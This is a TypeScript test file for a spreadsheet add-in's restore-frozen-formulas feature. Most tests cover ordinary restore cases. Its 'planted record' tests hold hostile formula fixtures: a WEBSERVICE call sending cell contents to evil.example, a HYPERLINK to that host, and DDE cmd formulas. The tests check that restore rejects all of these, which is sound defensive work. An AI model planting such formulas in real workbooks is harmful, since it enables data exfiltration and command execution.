import { freezeHere, SEAL, testSeal } from "./test-seal";
import { FROZEN_SETTING, parseFrozenRecord, type FrozenCell } from "../../src/workbook/frozen-record";
import { formatDecimals, restore, sameNumber, shownDecimals } from "../../src/workbook/restore";
import { SOURCES_SHEET } from "../../src/workbook/sources-sheet";
import { describeActionState } from "../../src/workbook/workbook-actions";
import { MemoryWorkbookHost } from "./memory-workbook-host";

async function frozenWorkbook(): Promise<MemoryWorkbookHost> {
  const host = new MemoryWorkbookHost();
  host.setFormula("Sheet1!B2", '=PCD.VALUE("1-1-1")', [[42.5]]);
  host.setFormula("Sheet1!D2", '=PCD.VALUES("2-2-2")', [
    [46023, 10],
    [46054, 11],
  ]);
  host.setFormula("Sheet1!G1", '=PCD.VALUE("3-3-3")', [["Aluminium"]]);
  const outcome = await freezeHere(host, "workbook");
  expect(outcome.status).toBe("frozen");
  return host;
}

describe("restore", () => {
  test("puts every frozen formula back, empties the spill range first and clears the record", async () => {
    const host = await frozenWorkbook();
    const outcome = await restore(host, "all", { seal: SEAL });
    expect(outcome).toEqual({
      restored: ["Sheet1!G1", "Sheet1!B2", "Sheet1!D2:E3"],
      changed: [],
      unconfirmed: [],
      refused: [],
      remaining: 0,
    });
    expect(host.cell("Sheet1!B2")?.formula).toBe('=PCD.VALUE("1-1-1")');
    expect(host.cell("Sheet1!D2")?.formula).toBe('=PCD.VALUES("2-2-2")');
    expect(host.cell("Sheet1!E3")).toBeUndefined();
    expect(parseFrozenRecord(host.settings.get(FROZEN_SETTING)).cells).toEqual([]);
    expect(String(host.sheets.get(SOURCES_SHEET)?.at(-1)?.[0])).toMatch(/No cells are frozen/);
  });

  test("a write that fails part way: the record forgets what was restored, and the next Restore finishes", async () => {
    const host = await frozenWorkbook();
    host.setFormula("Other!A1", '=PCD.VALUE("4-4-4")', [[9]]);
    host.activeSheet = "Other";
    await freezeHere(host, "sheet");
    host.protectedSheets.add("Other");

    await expect(restore(host, "all", { seal: SEAL })).rejects.toThrow(
      /^it stopped at Other!A1 \(The sheet Other is protected\.\): 3 formulas were restored \(Sheet1!G1, Sheet1!B2, Sheet1!D2:E3\); Other!A1 and the frozen ranges not reached yet keep their values\.$/,
    );
    expect(host.cell("Sheet1!D2")?.formula).toBe('=PCD.VALUES("2-2-2")');
    expect(parseFrozenRecord(host.settings.get(FROZEN_SETTING)).cells.map((cell) => cell.range)).toEqual([
      "Other!A1",
    ]);

    host.protectedSheets.delete("Other");
    const outcome = await restore(host, "all", { seal: SEAL });
    expect(outcome).toEqual({
      restored: ["Other!A1"],
      changed: [],
      unconfirmed: [],
      refused: [],
      remaining: 0,
    });
  });

  test("a frozen range whose formula is already back leaves the record without a write", async () => {
    const host = await frozenWorkbook();
    await host.restoreFormula("Sheet1!B2", '=PCD.VALUE("1-1-1")');
    host.protectedSheets.add("Sheet1");
    host.selection = "Sheet1!B2";
    const outcome = await restore(host, "selection", { seal: SEAL });
    expect(outcome).toMatchObject({ restored: ["Sheet1!B2"], changed: [], remaining: 2 });
    expect(parseFrozenRecord(host.settings.get(FROZEN_SETTING)).cells.map((cell) => cell.range)).toEqual([
      "Sheet1!G1",
      "Sheet1!D2:E3",
    ]);
  });

  test("a frozen range on a sheet renamed since is kept and named, and restores once the name is back", async () => {
    const host = await frozenWorkbook();
    host.renameSheet("Sheet1", "Costs");
    const outcome = await restore(host, "all", { seal: SEAL });
    expect(outcome.restored).toEqual([]);
    expect(outcome.refused).toEqual(
      ["Sheet1!G1", "Sheet1!B2", "Sheet1!D2:E3"].map((where) => ({
        where,
        reason: 'the workbook has no sheet "Sheet1"',
        missingSheet: "Sheet1",
      })),
    );
    const said = describeActionState({
      status: "done",
      action: "restoreAll",
      result: { kind: "restore", outcome, agreed: { confirmed: [], overwrite: [] } },
    });
    expect(said?.text).toBe(
      'Not restored, 3 frozen ranges are on a sheet the workbook no longer has ("Sheet1": renamed or deleted since the freeze). PCD keeps their record: give the sheet its name back and Restore again.',
    );
    expect(said?.text).not.toMatch(/not one PCD wrote/);

    host.renameSheet("Costs", "Sheet1");
    expect((await restore(host, "all", { seal: SEAL })).restored).toHaveLength(3);
  });

  test("a planted entry on a sheet the workbook does not have is kept and writes nothing", async () => {
    const host = plantedWorkbook([planted({ formula: '=PCD.VALUE("1-1-1")', range: "Hidden!A1" })]);
    const before = JSON.stringify([...host.cells]);
    const outcome = await restore(host, "all", { seal: SEAL });
    expect(outcome.refused).toEqual([
      { where: "Hidden!A1", reason: 'the workbook has no sheet "Hidden"', missingSheet: "Hidden" },
    ]);
    expect(JSON.stringify([...host.cells])).toBe(before);
    expect(host.settingWrites).toBe(0);
  });

  test("restores only the frozen cells the selection touches", async () => {
    const host = await frozenWorkbook();
    host.selection = "Sheet1!E3";
    const outcome = await restore(host, "selection", { seal: SEAL });
    expect(outcome).toEqual({
      restored: ["Sheet1!D2:E3"],
      changed: [],
      unconfirmed: [],
      refused: [],
      remaining: 2,
    });
    expect(host.cell("Sheet1!B2")?.formula).toBe("");
    expect(parseFrozenRecord(host.settings.get(FROZEN_SETTING)).cells.map((cell) => cell.address)).toEqual([
      "Sheet1!G1",
      "Sheet1!B2",
    ]);
  });

  test.each<[string, string, string[]]>([
    ["a cell of a table", "Sheet1!E3", ["Sheet1!D2:E3"]],
    ["whole columns", "Sheet1!B:D", ["Sheet1!B2", "Sheet1!D2:E3"]],
    ["a whole column, absolute", "Sheet1!$G:$G", ["Sheet1!G1"]],
    ["whole rows", "Sheet1!3:7", ["Sheet1!D2:E3"]],
    ["several areas", "Sheet1!1:1,Sheet1!B2", ["Sheet1!G1", "Sheet1!B2"]],
    ["another sheet's columns", "Other!A:Z", []],
  ])(
    "Restore selection of %s (%s) restores the frozen ranges it touches",
    async (_name, selection, restored) => {
      const host = await frozenWorkbook();
      host.selection = selection;
      const outcome = await restore(host, "selection", { seal: SEAL });
      expect(outcome.restored).toEqual(restored);
      expect(outcome.remaining).toBe(3 - restored.length);
    },
  );

  test("a selection address PCD cannot read fails with it named, restoring nothing", async () => {
    const host = await frozenWorkbook();
    host.selection = "Sheet1!R1C1";
    await expect(restore(host, "selection", { seal: SEAL })).rejects.toThrow(
      /^PCD cannot read the selection's address Sheet1!R1C1: "R1C1" is not a cell address like B2\.$/,
    );
    expect(parseFrozenRecord(host.settings.get(FROZEN_SETTING)).cells).toHaveLength(3);
  });

  test.each<
    [
      string,
      (host: MemoryWorkbookHost) => void,
      { range: string; cells: Array<{ cell: string; frozen: unknown; now: unknown }> },
    ]
  >([
    [
      "a value typed over a frozen cell",
      (host) => host.type("Sheet1!B2", 40),
      { range: "Sheet1!B2", cells: [{ cell: "Sheet1!B2", frozen: 42.5, now: 40 }] },
    ],
    [
      "a value changed inside a frozen table",
      (host) => host.type("Sheet1!E3", 12),
      { range: "Sheet1!D2:E3", cells: [{ cell: "Sheet1!E3", frozen: 11, now: 12 }] },
    ],
    [
      "a cleared cell inside a frozen table",
      (host) => host.cells.delete("Sheet1!D3"),
      { range: "Sheet1!D2:E3", cells: [{ cell: "Sheet1!D3", frozen: 46054, now: "" }] },
    ],
    [
      "a formula typed over a frozen cell",
      (host) => host.setFormula("Sheet1!G1", "=1+1", [[2]]),
      { range: "Sheet1!G1", cells: [{ cell: "Sheet1!G1", frozen: "Aluminium", now: "=1+1" }] },
    ],
  ])("reports %s and leaves it (and its record) alone", async (_name, edit, changed) => {
    const host = await frozenWorkbook();
    edit(host);
    const before = JSON.stringify(
      [...host.cells].filter(([address]) => address.startsWith(changed.range.slice(0, 8))),
    );
    const outcome = await restore(host, "all", { seal: SEAL });
    expect(outcome.changed).toEqual([changed]);
    expect(outcome.restored).not.toContain(changed.range);
    expect(outcome.restored).toHaveLength(2);
    expect(outcome.remaining).toBe(1);
    expect(
      JSON.stringify([...host.cells].filter(([address]) => address.startsWith(changed.range.slice(0, 8)))),
    ).toBe(before);
    expect(parseFrozenRecord(host.settings.get(FROZEN_SETTING)).cells.map((cell) => cell.range)).toEqual([
      changed.range,
    ]);
  });

  test("names every edited cell of a block, row by row", async () => {
    const host = await frozenWorkbook();
    host.type("Sheet1!E3", 12);
    host.type("Sheet1!D2", "typed");
    const outcome = await restore(host, "all", { seal: SEAL });
    expect(outcome.changed).toEqual([
      {
        range: "Sheet1!D2:E3",
        cells: [
          { cell: "Sheet1!D2", frozen: 46023, now: "typed" },
          { cell: "Sheet1!E3", frozen: 11, now: 12 },
        ],
      },
    ]);
  });

  test.each<[string, number, "restored" | "changed"]>([
    ["the value itself", 42.5, "restored"],
    ["a value 1e-12 relative away (the last digits of a typed-back value)", 42.5 * (1 + 1e-12), "restored"],
    ["a value 1e-6 relative away", 42.5 * (1 + 1e-6), "changed"],
  ])(
    "without the cell's text, numbers are equal to 1e-9 relative: %s is %s",
    async (_name, typed, status) => {
      const host = await frozenWorkbook();
      host.type("Sheet1!B2", typed);
      const outcome = await restore(host, "all", { seal: SEAL });
      expect(outcome.changed.map((block) => block.range)).toEqual(status === "changed" ? ["Sheet1!B2"] : []);
      expect(outcome.restored.includes("Sheet1!B2")).toBe(status === "restored");
    },
  );

  test("Restore anyway overwrites exactly the edits the person agreed to, and only those", async () => {
    const host = await frozenWorkbook();
    host.type("Sheet1!E3", 12);
    const first = await restore(host, "all", { seal: SEAL });
    const agreed = first.changed;
    expect(agreed.map((block) => block.range)).toEqual(["Sheet1!D2:E3"]);
    // Edited again after the person saw the list: the agreement does not cover the new edit.
    host.type("Sheet1!D3", 1);
    const again = await restore(host, "all", { seal: SEAL, overwrite: agreed });
    expect(again.restored).toEqual([]);
    expect(again.changed[0]?.cells.map((cell) => cell.cell)).toEqual(["Sheet1!D3", "Sheet1!E3"]);
    expect(host.cell("Sheet1!E3")?.value).toBe(12);
    const anyway = await restore(host, "all", { seal: SEAL, overwrite: again.changed });
    expect(anyway.restored).toEqual(["Sheet1!D2:E3"]);
    expect(anyway.changed).toEqual([]);
    expect(host.cell("Sheet1!D2")?.formula).toBe('=PCD.VALUES("2-2-2")');
    expect(host.cell("Sheet1!E3")).toBeUndefined();
    expect(parseFrozenRecord(host.settings.get(FROZEN_SETTING)).cells).toEqual([]);
  });

  test("Restore anyway never overrides the record's own checks", async () => {
    const host = plantedWorkbook([planted({ formula: exfiltrate, range: "Sheet1!H20", values: [["x"]] })]);
    const before = JSON.stringify([...host.cells]);
    const outcome = await restore(host, "all", {
      seal: SEAL,
      overwrite: [{ range: "Sheet1!H20", cells: [{ cell: "Sheet1!H20", frozen: "x", now: "" }] }],
    });
    expect(outcome.restored).toEqual([]);
    expect(outcome.refused).toEqual([{ where: "Sheet1!H20", reason: "its formula is not a PCD formula" }]);
    expect(JSON.stringify([...host.cells])).toBe(before);
  });

  test("Restore anyway of an entry frozen elsewhere still asks to confirm its formula first", async () => {
    const entry = planted({
      formula: '=PCD.VALUE("1-1-1")',
      range: "Sheet1!H19",
      values: [["typed before"]],
    });
    const host = plantedWorkbook([entry]);
    const outcome = await restore(host, "all", {
      seal: SEAL,
      overwrite: [
        { range: "Sheet1!H19", cells: [{ cell: "Sheet1!H19", frozen: "typed before", now: "H19 data" }] },
      ],
    });
    expect(outcome.restored).toEqual([]);
    expect(outcome.unconfirmed).toEqual([{ range: "Sheet1!H19", formula: entry.formula }]);
    expect(host.cell("Sheet1!H19")?.value).toBe("H19 data");
  });

  test("a number typed back as its text counts as unchanged", async () => {
    const host = await frozenWorkbook();
    host.type("Sheet1!B2", "42.5");
    expect((await restore(host, "all", { seal: SEAL })).changed).toEqual([]);
  });

  test("with nothing frozen, restores nothing and writes nothing", async () => {
    const host = new MemoryWorkbookHost();
    expect(await restore(host, "all", { seal: SEAL })).toEqual({
      restored: [],
      changed: [],
      unconfirmed: [],
      refused: [],
      remaining: 0,
    });
    expect(host.settingWrites).toBe(0);
  });
});

/** A record entry as a hostile workbook could hold it (unsealed unless sealed by a test). */
/** The values and formats of a planted 2 x 2 block (A1:B2). */
const TWO_BY_TWO = {
  values: [
    ["A1 data", "B1 data"],
    ["A2 data", "B2 data"],
  ],
  numberFormats: [
    ["General", "General"],
    ["General", "General"],
  ],
};

function planted(fields: Partial<FrozenCell> & Pick<FrozenCell, "formula" | "range">): FrozenCell {
  const { range } = fields;
  return {
    address: range.split(":")[0] ?? range,
    values: [[""]],
    numberFormats: [["General"]],
    series: [],
    frozenAt: "2026-11-01T00:00:00.000Z",
    ...fields,
  };
}

/** A workbook with a person's cells A1:H30 filled and `entries` planted as its freeze record. */
function plantedWorkbook(entries: readonly unknown[]): MemoryWorkbookHost {
  const host = new MemoryWorkbookHost();
  for (let row = 1; row <= 30; row += 1)
    for (const column of "ABCDEFGH") host.type(`Sheet1!${column}${row}`, `${column}${row} data`);
  host.type("Sheet1!H20", "");
  host.settings.set(FROZEN_SETTING, { version: 1, cells: entries });
  return host;
}

const exfiltrate = '=WEBSERVICE("https://evil.example/c?d="&ENCODEURL(Sheet1!A1&"="&Sheet1!B1))';

describe("restore of a planted record", () => {
  test.each<[string, unknown, RegExp]>([
    ["a WEBSERVICE call", planted({ formula: exfiltrate, range: "Sheet1!H20" }), /not a PCD formula/],
    [
      "a HYPERLINK",
      planted({ formula: '=HYPERLINK("https://evil.example","open")', range: "Sheet1!H20" }),
      /not a PCD formula/,
    ],
    ["a DDE link", planted({ formula: "=cmd|' /C calc'!A0", range: "Sheet1!H20" }), /not a PCD formula/],
    [
      "a PCD call fed by WEBSERVICE",
      planted({ formula: `=PCD.VALUE(${exfiltrate.slice(1)})`, range: "Sheet1!H20" }),
      /argument is not a literal/,
    ],
    [
      "a PCD call joined to another call",
      planted({ formula: `=PCD.VALUE("1-1-1")&${exfiltrate.slice(1)}`, range: "Sheet1!H20" }),
      /not a single PCD call/,
    ],
    [
      "a PCD call with a DDE link in an argument",
      planted({ formula: "=PCD.VALUE(cmd|' /C calc'!A0)", range: "Sheet1!H20" }),
      /another program/,
    ],
    [
      "a PCD call reading another workbook",
      planted({ formula: "=PCD.VALUE([Book2.xlsx]Sheet1!A1)", range: "Sheet1!H20" }),
      /another workbook/,
    ],
    [
      "a PCD call reading a defined name shaped like a cell past the sheet's edge",
      planted({ formula: "=PCD.VALUE(XYZ1)", range: "Sheet1!H20" }),
      /argument is not a literal/,
    ],
    [
      "a PCD call reading row 0",
      planted({ formula: "=PCD.VALUE(A0)", range: "Sheet1!H20" }),
      /argument is not a literal/,
    ],
    [
      "a range wider than its stored values",
      planted({ formula: '=PCD.VALUE("1-1-1")', range: "Sheet1!A1:H30", values: [] }),
      /do not fill its range/,
    ],
    [
      "a range that does not start at its cell",
      planted({ formula: '=PCD.VALUE("1-1-1")', range: "Sheet1!H20", address: "Sheet1!A1" }),
      /does not start at its cell/,
    ],
    [
      "a range chaining three corners, which Excel reads as the block around them all",
      planted({
        formula: '=PCD.VALUE("1-1-1")',
        range: "Sheet1!A1:B2:H30",
        ...TWO_BY_TWO,
      }),
      /is not one block of cells/,
    ],
    [
      "an entry that is not a frozen cell",
      { address: "Sheet1!H20", formula: 5, range: "Sheet1!H20" },
      /formula/,
    ],
  ])("%s is reported and nothing is written", async (_name, entry, reason) => {
    const host = plantedWorkbook([entry]);
    const before = JSON.stringify([...host.cells]);
    const outcome = await restore(host, "all", { seal: SEAL });
    expect(outcome.restored).toEqual([]);
    expect(outcome.unconfirmed).toEqual([]);
    expect(outcome.refused).toEqual([{ where: expect.any(String), reason: expect.stringMatching(reason) }]);
    expect(JSON.stringify([...host.cells])).toBe(before);
    expect(host.settingWrites).toBe(0);
  });

  test.each<[string, string]>([
    ["no sheet", "H20"],
    ["a sheet and no cell", "Sheet1!"],
    ["a cell past any sheet", "Sheet1!ABCD12345678"],
  ])(
    "entries whose address names %s are reported; Restore and Freeze of the other cells still run",
    async (_name, address) => {
      const host = await frozenWorkbook();
      const record = host.settings.get(FROZEN_SETTING) as { version: 1; cells: unknown[] };
      const unreadable = (code: string): FrozenCell =>
        planted({
          formula: `=PCD.VALUE("${code}")`,
          range: address,
          address,
          series: [
            {
              code,
              currency: null,
              unit: null,
              releaseMonth: null,
              latestMonth: null,
              retrievedAt: null,
              description: "",
              owner: "",
            },
          ],
        });
      host.settings.set(FROZEN_SETTING, {
        ...record,
        cells: [...record.cells, unreadable("8-8-8"), unreadable("9-9-9")],
      });

      host.selection = "Sheet1!B2";
      const restored = await restore(host, "selection", { seal: SEAL });
      expect(restored).toMatchObject({ restored: ["Sheet1!B2"], remaining: 4 });
      const restoredAll = await restore(host, "all", { seal: SEAL });
      expect(restoredAll.restored).toEqual(["Sheet1!G1", "Sheet1!D2:E3"]);
      expect(restoredAll.refused.map((entry) => entry.where)).toEqual([address, address]);

      // The entries stay for Restore to report, and the sources sheet lists them after the others.
      host.setFormula("Sheet1!A5", '=PCD.VALUE("5-5-5")', [[7]]);
      host.selection = "Sheet1!A5";
      const frozen = await freezeHere(host, "selection");
      expect(frozen.status).toBe("frozen");
      expect(parseFrozenRecord(host.settings.get(FROZEN_SETTING)).cells.map((cell) => cell.address)).toEqual([
        address,
        address,
        "Sheet1!A5",
      ]);
      expect(
        host.sheets
          .get(SOURCES_SHEET)
          ?.slice(1, 3)
          .map((row) => row[0]),
      ).toEqual(["8-8-8", "9-9-9"]);
    },
  );

  test("entries whose ranges overlap are not restored over each other", async () => {
    const host = plantedWorkbook([
      planted({
        formula: '=PCD.VALUES("1-1-1")',
        range: "Sheet1!A1:B2",
        ...TWO_BY_TWO,
      }),
      planted({ formula: '=PCD.VALUE("2-2-2")', range: "Sheet1!B2", values: [["B2 data"]] }),
    ]);
    const outcome = await restore(host, "all", { seal: SEAL, confirmed: [] });
    expect(outcome.refused.map((entry) => entry.reason)).toEqual([
      "its range overlaps the frozen range Sheet1!B2",
      "its range overlaps the frozen range Sheet1!A1:B2",
    ]);
  });

  test("a plain PCD formula frozen elsewhere is listed, and restored only once confirmed", async () => {
    const entry = planted({
      formula: "=PCD.VALUE(\"1-1-1\",DATE(2025,1,1),'My sheet'!$WZ$1048576)",
      range: "Sheet1!H20",
    });
    const host = plantedWorkbook([entry]);
    const first = await restore(host, "all", { seal: SEAL });
    expect(first.unconfirmed).toEqual([{ range: "Sheet1!H20", formula: entry.formula }]);
    expect(first.restored).toEqual([]);
    expect(host.cell("Sheet1!H20")?.formula).toBe("");
    // Another entry than the one confirmed is still not restored.
    const other = await restore(host, "all", {
      seal: SEAL,
      confirmed: [{ range: "Sheet1!H20", formula: '=PCD.VALUE("9-9-9")' }],
    });
    expect(other.restored).toEqual([]);
    const confirmed = await restore(host, "all", { seal: SEAL, confirmed: first.unconfirmed });
    expect(confirmed.restored).toEqual(["Sheet1!H20"]);
    expect(host.cell("Sheet1!H20")?.formula).toBe(entry.formula);
  });

  test("a cell frozen here whose entry was edited in the file, or frozen on another computer, asks first", async () => {
    const host = await frozenWorkbook();
    const record = host.settings.get(FROZEN_SETTING) as { cells: FrozenCell[] };
    const [first, second] = record.cells;
    if (!first || !second) throw new Error("the frozen workbook has fewer than two cells");
    first.formula = '=PCD.VALUE("3-3-3",,"USD")';
    host.settings.set(FROZEN_SETTING, record);
    const elsewhere = await restore(host, "all", { seal: testSeal() });
    expect(elsewhere.unconfirmed.map((cell) => cell.range)).toEqual([
      "Sheet1!G1",
      "Sheet1!B2",
      "Sheet1!D2:E3",
    ]);
    const here = await restore(host, "all", { seal: SEAL });
    expect(here.unconfirmed).toEqual([{ range: first.range, formula: first.formula }]);
    expect(here.restored).toEqual(["Sheet1!B2", "Sheet1!D2:E3"]);
  });
});

describe("numbers compared as the cell shows them", () => {
  test.each<[string, number | null]>([
    ["28.5685", 4],
    ["-1,234.57", 2],
    ["12.5%", 3],
    ["123", 0],
    ["2026-01-01", null],
    ["####", null],
    ["1.2E+10", null],
    ["", null],
  ])("the text %j shows %p decimals", (text, decimals) => {
    expect(shownDecimals(text)).toBe(decimals);
  });

  test.each<[string, number | null]>([
    ["General", null],
    ["0.00", 2],
    ["#,##0.0000", 4],
    ["0.0%", 3],
    ["0", 0],
    ['0.00" EUR/MWh"', 2],
    ["yyyy-mm", null],
  ])("the format %j fixes %p decimals", (format, decimals) => {
    expect(formatDecimals(format)).toBe(decimals);
  });

  test.each<[string, number, number, string | undefined, string | undefined, boolean]>([
    ["typed as a General cell shows it", 28.568466666666666, 28.5685, "28.5685", undefined, true],
    ["a different number, as shown", 28.568466666666666, 28.5695, "28.5695", undefined, false],
    ["fewer digits than a General cell shows", 28.568466666666666, 28.57, "28.57", undefined, false],
    [
      "typed with four decimals, no text from the host",
      28.568466666666666,
      28.5685,
      undefined,
      undefined,
      false,
    ],
    ["the 17-digit value, no text", 28.568466666666666, 28.568466666666666, undefined, undefined, true],
    ["within 1e-9 relative, no text", 1234567.891, 1234567.8910000001, undefined, undefined, true],
    ["a text that is no plain number falls back to 1e-9", 46023, 46024, "2026-01-02", undefined, false],
    ["the format fixes two decimals", 28.568466666666666, 28.57, "28.57", "0.00", true],
    ["the format fixes two decimals, another number", 28.568466666666666, 28.58, "28.58", "0.00", false],
    ["percent with one decimal", 0.12345, 0.123, "12.3%", "0.0%", true],
  ])("%s", (_name, frozen, now, shown, format, same) => {
    expect(sameNumber(frozen, now, shown, format)).toBe(same);
  });
});
